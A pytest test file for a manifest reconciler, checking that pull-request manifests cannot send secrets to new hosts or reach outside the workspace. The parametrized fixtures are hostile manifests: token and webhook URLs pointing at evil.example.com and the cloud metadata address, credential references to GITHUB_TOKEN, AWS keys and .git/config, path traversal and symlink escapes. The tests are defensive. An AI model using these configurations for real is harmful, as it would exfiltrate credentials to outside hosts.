"""A pull request changes manifests: it sends no secret to a new host, and writes nothing outside the workspace."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from reconciler.kinds import load_kinds, load_schema
from reconciler.model.desired_state import Desired
from reconciler.model.external_references import HostName, ObjectName, PlaceName, SecretName
from reconciler.model.kind import Kind
from reconciler.model.operator_bounds import Held
from reconciler.model.problem import BadInput, Problem
from reconciler.model.resource import Resource
from reconciler.model.resource_address import Address
from reconciler.model.workspace_settings import Workspace
from reconciler.steps.load import load
from tests.operator import bounds_file
from tests.steps.load.test_refusals import NOW

OURS = "clientId: {env: CXONE_CLIENT_ID}, clientSecret: {env: CXONE_CLIENT_SECRET}"
HERE = "http://127.0.0.1:8642"
V = "apiVersion: cxone.reconciler/v1\nkind: "


def tenant(base: str = f"{HERE}/api", token: str = f"{HERE}/token", credentials: str = OURS, more: str = "") -> str:
    surface = f"    lists: {{baseUrl: '{base}', tokenUrl: '{token}'}}"
    return (
        f"{V}Tenant\nmetadata: {{name: acme}}\nspec:\n  credentials: {{{credentials}}}\n  surfaces:\n{surface}\n{more}"
    )


def webhook(spec: str) -> str:
    return f"---\n{V}Webhook\nmetadata: {{name: crm}}\nspec: {{events: [apply], {spec}}}\n"


def workspace(spec: str) -> str:
    return f"---\n{V}Workspace\nmetadata: {{name: test}}\nspec: {{{spec}}}\n"


def source(spec: str) -> str:
    return f"---\n{V}ContactSource\nmetadata: {{name: people}}\nspec: {{{spec}}}\n"


def opened(folder: Path, text: str, *floors: Path, environ: dict[str, str] | None = None, **said: Any) -> Desired:
    root = folder / "workspace"
    root.mkdir(exist_ok=True)
    (root / "m.yaml").write_text(text, encoding="utf-8")
    return load(Workspace(root=root, scratch=folder, now=NOW, floors=floors, environ=environ or {}, **said))


def refused(folder: Path, text: str, *floors: Path, **said: Any) -> list[Problem]:
    with pytest.raises(BadInput) as caught:
        opened(folder, text, *floors, **said)
    return list(caught.value.problems)


def codes(problems: list[Problem]) -> set[str]:
    return {problem.code for problem in problems}


LOCAL = "  webhooks: {allowPrivate: [127.0.0.1], allowHttp: [127.0.0.1]}\n"
SQL = "columns: {contactId: id}, query: select 1"
SALESFORCE = f"object: Lead, columns: {{contactId: Id, phone: Phone}}, credentials: {{{OURS}}}"
CHANGES = {
    "another token address": (tenant(token="https://evil.example.com/token"), {"host-not-allowed", "hosts-apart"}),
    "another address altogether": (
        tenant("https://evil.example.com/api", "https://evil.example.com/token"),
        {"host-not-allowed"},
    ),
    "another port of this machine": (tenant(token="http://127.0.0.1:9/token"), {"hosts-apart"}),
    "this machine beside the vendor": (tenant("https://acme.cxone.com/api"), {"host-not-allowed", "hosts-apart"}),
    "a host that begins as the vendor's": (
        tenant("https://acme.cxone.com.evil.example.com/a", "https://acme.cxone.com.evil.example.com/t"),
        {"host-not-allowed"},
    ),
    "the vendor's host as a user": (tenant(token="https://127.0.0.1@evil.example.com/t"), {"bad-host"}),
    "an address as one number": (tenant("https://2130706433/a", "https://2130706433/t"), {"bad-host"}),
    "another secret": (
        tenant(credentials="clientId: {env: CXONE_CLIENT_ID}, clientSecret: {env: GITHUB_TOKEN}"),
        {"variable-not-allowed"},
    ),
    "the key that plans are sealed with": (
        tenant(credentials="clientId: {env: CXONE_CLIENT_ID}, clientSecret: {env: RECONCILER_KEY}"),
        {"variable-not-allowed"},
    ),
    "the ledger's key": (
        tenant(credentials="clientId: {env: CXONE_CLIENT_ID}, clientSecret: {file: .reconciler/plan.key}"),
        {"file-not-allowed"},
    ),
    "git's own token": (
        tenant(more=LOCAL) + webhook(f"url: '{HERE}/x', secret: {{file: .git/config}}"),
        {"file-not-allowed"},
    ),
    "a webhook that is given a secret": (
        tenant() + webhook("url: 'https://evil.example.com/x', secretHeaders: {X-A: {env: CXONE_CLIENT_SECRET}}"),
        {"host-not-allowed"},
    ),
    "a webhook to a neighbour": (
        tenant(more="  webhooks: {allowPrivate: [10.0.0.0/8], allowHttp: [10.1.2.3]}\n")
        + webhook("url: 'http://10.1.2.3/x', secretHeaders: {X-A: {env: AWS_SECRET_ACCESS_KEY}}"),
        {"host-not-allowed", "private-not-allowed", "variable-not-allowed"},
    ),
    "a cloud's metadata": (
        tenant(more="  webhooks: {allowPrivate: [169.254.169.254], allowHttp: [169.254.169.254]}\n")
        + webhook("url: 'http://169.254.169.254/x'"),
        {"host-not-allowed", "private-not-allowed"},
    ),
    "a ledger above": (tenant() + workspace("ledger: {url: 'file://../X'}"), {"place-not-allowed"}),
    "a ledger anywhere": (tenant() + workspace("ledger: {url: 'file:///tmp/X'}"), {"place-not-allowed"}),
    "a ledger by a detour": (tenant() + workspace("ledger: {url: 'file://a/../../X'}"), {"place-not-allowed"}),
    "a ledger in another's bucket": (tenant() + workspace("ledger: {url: 's3://evil/x'}"), {"place-not-allowed"}),
    "rows to another's engine": (
        tenant() + workspace("engine: {name: spark, master: 'spark://evil.example.com:7077'}"),
        {"host-not-allowed"},
    ),
    "numbers to another's bucket": (
        tenant() + f"---\n{V}SuppressionList\nmetadata: {{name: dnc}}\nspec: {{store: 's3://evil/x'}}\n",
        {"place-not-allowed"},
    ),
    "a database by another secret": (
        tenant() + source(f"sql: {{url: {{env: PGPASSWORD}}, {SQL}}}"),
        {"variable-not-allowed"},
    ),
    "interactions by another secret": (
        tenant()
        + source(
            "contactList: {name: A}, interactions: {types: [voice], sql: {url: {env: DATABASE_URL}, query: select 1, "
            "columns: {contactId: id, startTime: at}}}"
        ),
        {"variable-not-allowed"},
    ),
    "another organisation": (
        tenant() + source(f"salesforce: {{instance: 'https://evil.my.salesforce.com', {SALESFORCE}}}"),
        {"host-not-allowed"},
    ),
    "another organisation's tokens": (
        tenant() + source(f"salesforce: {{instance: '{HERE}', tokenUrl: 'https://evil.example.com/t', {SALESFORCE}}}"),
        {"host-not-allowed", "hosts-apart"},
    ),
}


@pytest.mark.parametrize("change", CHANGES)
def test_a_manifest_names_no_new_host_secret_or_place(change: str, tmp_path: Path) -> None:
    text, expected = CHANGES[change]
    problems = refused(tmp_path, text)
    assert codes(problems) == expected
    assert all(problem.where.file == "m.yaml" and problem.where.line and problem.where.column for problem in problems)


@pytest.mark.parametrize(
    "text",
    [
        tenant(),
        tenant("https://acme.cxone.com/api", "https://login.nicecxone.com/token"),
        tenant(credentials="clientId: {env: ACME_ID}, clientSecret: {file: secrets/acme}"),
        tenant() + workspace("ledger: {url: 'file://records/ours'}"),
        tenant(more=LOCAL) + webhook(f"url: '{HERE}/x', secret: {{env: RECONCILER_WEBHOOK}}"),
        tenant() + source(f"sql: {{url: {{env: CXONE_DATABASE}}, {SQL}}}"),
        tenant() + source("files: {paths: ['s3://data/people.csv'], format: csv, columns: {contactId: id}}"),
    ],
)
def test_without_a_file_of_the_operators_ones_own_work_goes_on(text: str, tmp_path: Path) -> None:
    assert opened(tmp_path, text)


ALLOWABLE = sorted(set(CHANGES) - {"the vendor's host as a user", "an address as one number"})
NEVER = {"the key that plans are sealed with", "the ledger's key"}


@pytest.mark.parametrize("change", ALLOWABLE)
def test_the_lines_of_a_hint_allow_what_was_refused_and_no_more(change: str, tmp_path: Path) -> None:
    """Whoever follows the hints one after the other ends with what was asked for; keys are never offered."""
    text, _ = CHANGES[change]
    problems = refused(tmp_path, text)
    said: dict[str, Any] = {}
    for _ in range(8):
        hint = problems[0].hint
        if change in NEVER:
            assert hint is None
            return
        assert hint is not None
        found = re.search(r"bounds: (\{.*\})", hint)
        assert found is not None
        depth, end = 0, 0
        for end, character in enumerate(found[1]):  # noqa: B007 - the end of the block is wanted
            depth += {"{": 1, "}": -1}.get(character, 0)
            if not depth:
                break
        said |= yaml.safe_load(found[1][: end + 1])
        floor = bounds_file(tmp_path, **said)
        try:
            opened(tmp_path, text, floor)
        except BadInput as error:
            problems = list(error.problems)
        else:
            assert "*" not in json.dumps(said), "what is offered is what is named, and no pattern"
            return
    pytest.fail(f"the hints lead nowhere: {said}, {problems}")


def test_the_whole_file_is_shown_where_there_is_none_yet(tmp_path: Path) -> None:
    (problem,) = refused(tmp_path, tenant() + workspace("ledger: {url: 's3://ours/x'}"))
    assert problem.hint is not None
    floor = tmp_path / "operator.yaml"
    floor.write_text(problem.hint.partition("RECONCILER_FLOOR: ")[2], encoding="utf-8")
    assert opened(tmp_path, tenant() + workspace("ledger: {url: 's3://ours/x'}"), floor)


def test_a_floor_among_the_manifests_widens_nothing(tmp_path: Path) -> None:
    own = f"---\n{V}Floor\nmetadata: {{name: mine}}\nspec: {{bounds: {{variables: ['*'], hosts: ['*.example.com']}}}}\n"
    text, expected = CHANGES["another address altogether"]
    assert codes(refused(tmp_path, f"{text}{own}")) == expected | {"bounds-in-manifests"}
    floor = tmp_path / "workspace" / "floor.yaml"
    floor.write_text(own, encoding="utf-8")
    assert codes(refused(tmp_path, text, floor)) == expected | {"bounds-in-manifests"}, "named, and yet a manifest"
    link = tmp_path / "floor.yaml"
    link.symlink_to(floor)
    assert codes(refused(tmp_path, text, link)) == expected | {"bounds-in-manifests"}


@pytest.mark.parametrize(
    ("tracked", "floor", "refused_there"),
    [
        (["workspace/m.yaml", "ci/operator.yaml"], "ci/operator.yaml", True),
        (["operator.yaml"], "operator.yaml", True),
        (["workspace/m.yaml"], "ci/operator.yaml", False),
        (["ci/operator.yaml.example", "workspace/ci/operator.yaml"], "ci/operator.yaml", False),
        (["ci"], "ci/operator.yaml", True),
        (["link"], "link/operator.yaml", True),
        (["ci/operator.yaml"], "link/operator.yaml", True),
        ([], "ci/operator.yaml", False),
    ],
    ids=["beside", "at the root", "not tracked", "others like it", "a submodule", "a link", "by a link", "none"],
)
@pytest.mark.parametrize("version", [2, 4])
def test_bounds_that_git_has_beside_the_manifests_are_in_reach_of_a_pull_request(
    tmp_path: Path, tracked: list[str], floor: str, refused_there: bool, version: int
) -> None:
    repository, elsewhere = tmp_path / "repository", tmp_path / "elsewhere"
    for folder in (repository / "ci", elsewhere):
        folder.mkdir(parents=True)
        bounds_file(folder, hosts=["127.0.0.1"])
    bounds_file(repository, hosts=["127.0.0.1"])
    (repository / "link").symlink_to(elsewhere if "link" in tracked else repository / "ci")
    if tracked:
        git_index(repository, tracked, version)
    assert opened(repository, tenant(), elsewhere / "operator.yaml")
    if refused_there:
        (problem,) = refused(repository, tenant(), repository / floor)
        assert (problem.code, problem.where.line) == ("bounds-in-manifests", 1)
        assert "git has this file beside the manifests" in problem.message
    else:
        assert opened(repository, tenant(), repository / floor)


def test_limits_may_come_with_the_manifests_and_an_index_that_nobody_can_read_may_have_anything(tmp_path: Path) -> None:
    git_index(tmp_path, ["operator.yaml", "limits.yaml"], 2)
    limits = tmp_path / "limits.yaml"
    limits.write_text(f"{V}Floor\nmetadata: {{name: limits}}\nspec: {{limits: {{removals: 10}}}}\n")
    assert opened(tmp_path, tenant(), limits)
    floor = bounds_file(tmp_path, hosts=["127.0.0.1"])
    assert codes(refused(tmp_path, tenant(), floor)) == {"bounds-in-manifests"}
    (tmp_path / ".git" / "index").write_bytes(b"DIRC" + (9).to_bytes(4) + b"\0" * 40)
    assert codes(refused(tmp_path, tenant(), floor)) == {"bounds-in-manifests"}
    (tmp_path / ".git" / "index").unlink()
    assert opened(tmp_path, tenant(), floor), "nothing was ever added"
    (tmp_path / ".git" / "sharedindex.1").write_bytes(b"")
    git_index(tmp_path, [], 2)
    git_index(tmp_path, ["operator.yaml"], 2, "sharedindex.1")
    assert codes(refused(tmp_path, tenant(), floor)) == {"bounds-in-manifests"}, "a part of it lies apart"


def shared_by(one: bytes, other: bytes) -> int:
    return next(
        (at for at, pair in enumerate(zip(one, other, strict=False)) if len(set(pair)) > 1), min(len(one), len(other))
    )


def git_index(root: Path, paths: list[str], version: int, name: str = "index") -> None:
    """What git says that it tracks of a working tree: https://git-scm.com/docs/index-format."""
    (root / ".git").mkdir(exist_ok=True)
    content, before = b"DIRC" + version.to_bytes(4) + len(paths).to_bytes(4), b""
    for path in sorted(each.encode() for each in paths):
        common = shared_by(before, path) if version == 4 else 0
        dropped = (len(before) - common).to_bytes(1) if version == 4 else b""
        entry = b"\x01" * 60 + len(path).to_bytes(2) + dropped + path[common:] + b"\0"
        padding = b"" if version == 4 else b"\0" * (-len(entry) % 8)
        content, before = content + entry + padding, path
    (root / ".git" / name).write_bytes(content + b"\0" * 20)


def test_a_floor_of_the_operators_name_among_the_manifests_takes_nothing_of_its_place(tmp_path: Path) -> None:
    floor = bounds_file(tmp_path, hosts=["acme.cxone.com"])
    own = f"---\n{V}Floor\nmetadata: {{name: operator}}\nspec: {{}}\n"
    found = refused(tmp_path, CHANGES["another address altogether"][0] + own, floor)
    assert {"host-not-allowed", "duplicate-name"} <= codes(found)


@pytest.mark.parametrize("given", [{"variables": {"host": "evil"}}, {"environment": "prod"}])
def test_a_name_that_a_template_makes_of_parts_is_held_as_one_that_was_written(
    given: dict[str, Any], tmp_path: Path
) -> None:
    folder = tmp_path / "workspace" / "environments"
    folder.mkdir(parents=True)
    (folder / "prod.yaml").write_text("host: evil\nbounds: {hosts: ['*.example.com']}\nRECONCILER_FLOOR: x\n")
    text = tenant("https://{{ host }}.example.com/a", "https://{{ host }}.example.com/t")
    assert codes(refused(tmp_path, text, **given)) == {"host-not-allowed"}
    secret = tenant(credentials="clientId: {env: CXONE_ID}, clientSecret: {env: 'AWS_{{ host }}_KEY'}")
    assert codes(refused(tmp_path, secret, **given)) == {"variable-not-allowed"}


def test_in_a_pipeline_or_beside_bounds_this_machine_is_a_host_like_any_other(tmp_path: Path) -> None:
    assert codes(refused(tmp_path, tenant(), environ={"GITHUB_ACTIONS": "true"})) == {"host-not-allowed"}
    assert codes(refused(tmp_path, tenant(), bounds_file(tmp_path))) == {"host-not-allowed"}
    assert opened(tmp_path, tenant(), bounds_file(tmp_path, hosts=["127.0.0.1"]), environ={"GITHUB_ACTIONS": "true"})


def test_links_lead_neither_a_secret_in_nor_a_record_out(tmp_path: Path) -> None:
    root = tmp_path / "workspace"
    (root / "secrets").mkdir(parents=True)
    (root / ".git").mkdir()
    (root / "secrets" / "a").symlink_to(root / ".git" / "config")
    (root / "secrets" / "b").symlink_to("/etc/hostname")
    for name in ("a", "b"):
        text = tenant(credentials=f"clientId: {{env: CXONE_ID}}, clientSecret: {{file: secrets/{name}}}")
        assert codes(refused(tmp_path, text)) == {"file-not-allowed"}
    (root / "secrets").rename(root / "other")
    (root / ".reconciler").symlink_to(tmp_path)
    assert codes(refused(tmp_path, tenant())) == {"place-not-allowed"}
    (root / ".reconciler").unlink()
    (root / ".reconciler" / "runs").mkdir(parents=True)
    (root / ".reconciler" / "runs" / "a").symlink_to(tmp_path)
    (root / ".reconciler" / "audit.jsonl").symlink_to(tmp_path / "a.jsonl")
    found = refused(tmp_path, tenant())
    assert [each.where.file for each in found] == [".reconciler/audit.jsonl", ".reconciler/runs/a"]
    assert codes(found) == {"link-in-ledger"}


def test_a_path_that_leads_nowhere_is_told_and_no_more(tmp_path: Path) -> None:
    root = tmp_path / "workspace"
    root.mkdir()
    (root / ".reconciler").symlink_to(root / ".reconciler")
    assert codes(refused(tmp_path, tenant())) == {"place-not-allowed"}
    (root / ".reconciler").unlink()
    for path in ("a" * 300, "'a\\0b'", "'\\\\x'"):
        opened(tmp_path, tenant(credentials=f"clientId: {{env: CXONE_ID}}, clientSecret: {{file: {path}}}"))


def test_a_url_that_is_kept_elsewhere_is_held_to_the_hosts_as_well(tmp_path: Path) -> None:
    root = tmp_path / "workspace"
    (root / "secrets").mkdir(parents=True)
    (root / "secrets" / "url").write_text("https://evil.example.com/hush")
    for kept, environ in (
        ("{file: secrets/url}", {}),
        ("{env: CXONE_URL}", {"CXONE_URL": "https://evil.example.com/hush"}),
    ):
        text = tenant() + webhook(f"urlFrom: {kept}, secretHeaders: {{X-A: {{env: CXONE_A}}}}")
        found = refused(tmp_path, text, environ=environ)
        assert codes(found) == {"host-not-allowed"}
        assert not any("hush" in f"{each.message}{each.hint}" for each in found)
    (root / "secrets" / "url").write_text("postgresql://evil.example.com/db")
    database = tenant() + source(f"sql: {{url: {{file: secrets/url}}, {SQL}}}")
    assert codes(refused(tmp_path, database)) == {"database-not-allowed"}
    assert opened(tmp_path, database, bounds_file(tmp_path, hosts=["127.0.0.1"], secretFiles=["secrets/*"]))


def test_of_several_tenants_only_the_one_that_is_meant_is_spoken_to(tmp_path: Path) -> None:
    other = tenant("https://elsewhere.example.com/a", "https://elsewhere.example.com/t").replace("acme", "other")
    assert opened(tmp_path, f"{tenant()}---\n{other}", tenant="acme")
    assert codes(refused(tmp_path, f"{tenant()}---\n{other}", tenant="other")) == {"host-not-allowed"}


def test_all_of_it_is_told_at_once(tmp_path: Path) -> None:
    text = tenant(token="https://evil.example.com/t") + workspace("ledger: {url: 'file://../X'}")
    text += webhook("url: 'https://other.example.com/x', secret: {env: AWS_KEY}")
    assert codes(refused(tmp_path, text)) == {
        *("host-not-allowed", "hosts-apart", "place-not-allowed", "variable-not-allowed"),
    }


def outside(spec: Any) -> Iterator[Any]:
    """What of a spec looks like a secret's place, or leads out of it."""
    if isinstance(spec, dict) and set(spec) in ({"env"}, {"file"}):
        yield spec
    elif isinstance(spec, dict | list):
        for value in spec.values() if isinstance(spec, dict) else spec:
            yield from outside(value)
    elif isinstance(spec, str) and "://" in spec:
        yield spec


EXAMPLES = [
    (kind, number)
    for kind in sorted(load_kinds())
    for number, example in enumerate(load_schema(kind)["examples"])
    if kind != "Floor" and list(outside(example["spec"]))
]


@pytest.mark.parametrize(("kind", "number"), EXAMPLES)
def test_no_reference_or_address_of_a_manifest_is_passed_over(kind: str, number: int) -> None:
    """Whatever a kind's examples hold that leads out of them is among what the kind says that it names."""
    spec = load_schema(kind)["examples"][number]["spec"]
    named = list(load_kinds()[kind].names(Resource(Address(kind, "a"), spec)))
    secrets = [{each.kept: each.name} for each in named if isinstance(each, SecretName)]
    urls = [each.url for each in named if isinstance(each, HostName | PlaceName | ObjectName)]
    assert [value for value in outside(spec) if value not in (*secrets, *urls)] == []


def test_the_kinds_that_lead_out_of_their_manifests_are_these() -> None:
    silent = Kind("Silent", "nothing").names
    assert {name for name, kind in load_kinds().items() if kind.names is not silent} == {
        *("ContactSource", "DispositionSet", "SuppressionList", "Tenant", "Webhook", "Workspace"),
    }
    assert {kind for kind, _ in EXAMPLES} >= {"ContactSource", "DispositionSet", "Tenant", "Webhook", "Workspace"}


def test_held_bounds_are_the_desired_ones(tmp_path: Path) -> None:
    desired = opened(tmp_path, tenant(), bounds_file(tmp_path, hosts=["127.0.0.1"]))
    assert isinstance(desired.bounds, Held) and desired.bounds.each
    assert desired.manifests != opened(tmp_path, tenant()).manifests, "a plan on other bounds is stale"
